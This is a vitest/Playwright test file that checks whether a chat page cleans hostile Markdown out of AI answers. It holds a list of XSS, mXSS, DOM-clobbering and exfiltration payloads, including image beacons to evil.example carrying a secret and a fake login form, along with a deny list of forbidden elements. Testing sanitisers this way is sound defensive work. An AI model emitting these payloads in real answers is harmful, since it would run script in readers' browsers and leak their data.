import { describe, expect, test } from 'vitest'
import { answered, ask, said, type OpenPage } from './chat-page.ts'
import { noChromium } from './chromium.ts'
import { scriptedModel, text } from './scripted-model.ts'

/** What models were seen to be made to say; `evil.example` stands for whoever wants to hear of it. */
const HOSTILE = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(2)>',
  '![x](https://evil.example/?q=SECRET)',
  '<img src="https://evil.example/pixel?q=SECRET">',
  '![ref][secret]\n\n[secret]: https://evil.example/ref?q=SECRET',
  '<form action=//evil.example><input name=password><button>Log in</button></form>',
  '[click](javascript:alert(3))',
  '<a href="data:text/html,<script>alert(4)</script>">data</a>',
  '<a href="jav&#x09;ascript:alert(5)">tab</a>',
  '<svg><script>alert(6)</script></svg><svg onload=alert(7)>',
  '<iframe src="https://evil.example"></iframe><iframe srcdoc="<script>alert(8)</script>"></iframe>',
  '<style>@import url(https://evil.example/style.css)</style>',
  '<p style="background:url(https://evil.example/bg);position:fixed;inset:0">over everything</p>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(9)>',
  '<video src="https://evil.example/video" autoplay></video><object data="https://evil.example"></object>',
  '<link rel="stylesheet" href="https://evil.example/link.css"><base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<details open ontoggle=alert(10)>details</details>',
  '<a id="messages" name="composer" class="round" href="//evil.example/clobber">same name</a>',
  '```html\n<img src=x onerror=alert(11)>\n```',
  '[Your bank](https://evil.example/login)',
  'The end of it.',
]

const FORBIDDEN =
  'script, style, iframe, form, input, svg, math, object, embed, video, audio, link, meta, base, img:not([src$="/x"]), button:not(.copy), [style], [id], [name], [onerror], [onload], [ontoggle]'

/** Tests of answers that attack whoever reads them on the chat page. */
export function testHostileMarkdown(openPage: OpenPage): void {
  describe.skipIf(noChromium !== undefined)('hostile Markdown in an answer', { timeout: 60_000 }, () => {
    test('asks nobody for anything, runs nothing and imitates nothing, in whatever pieces it comes', async () => {
      const whole = HOSTILE.join('\n\n')
      const model = scriptedModel(text(whole), text(...whole.split(/(?<=[\s\S]{7})/)))
      // Without the security policy of the page, so that the cleaning alone has to hold.
      const { page, problems } = await openPage(model, { bypassCSP: true })
      const forbidden = () =>
        page
          .locator('.prose')
          .locator(FORBIDDEN)
          .evaluateAll((found) => found.map((element) => element.outerHTML))
      for (const question of ['In one piece', 'In many pieces']) {
        await ask(page, question)
        await answered(page)
        await said(page).getByText('The end of it.').last().waitFor()
      }
      expect(await forbidden()).toEqual([])
      await page.reload({ waitUntil: 'networkidle' })
      await said(page).getByText('The end of it.').last().waitFor()
      expect(await forbidden()).toEqual([])
      expect(problems).toEqual([])
    })

    test('is shown as it is written where it is nested without end, also after a reload', async () => {
      const nested = `${'>'.repeat(20_000)} deep`
      const { page, problems } = await openPage(scriptedModel(text(nested), text('And on it goes.')))
      await ask(page, 'Hello')
      await answered(page)
      await ask(page, 'Go on')
      await answered(page)
      await page.reload({ waitUntil: 'networkidle' })
      await said(page).getByText('And on it goes.').waitFor()
      expect(await page.locator('.prose').first().textContent()).toBe(nested)
      expect(problems).toEqual([])
    })

    test('links say where they lead and take nothing along', async () => {
      const { page } = await openPage(scriptedModel(text(HOSTILE.join('\n\n'))))
      await ask(page, 'Hello')
      await answered(page)
      const links = await page
        .locator('.prose a[href]')
        .evaluateAll((found) =>
          found.map((link) => [
            link.getAttribute('href'),
            link.getAttribute('rel'),
            link.getAttribute('target'),
          ]),
        )
      expect(links.length).toBeGreaterThan(2)
      for (const [href, rel, target] of links) {
        expect(href).toMatch(/^https?:\/\/evil\.example\//)
        expect([rel, target]).toEqual(['noopener nofollow noreferrer', '_blank'])
      }
      const bank = page.getByRole('link', { name: 'Your bank' })
      expect(await bank.textContent()).toBe('Your bank evil.example')
    })
  })
}
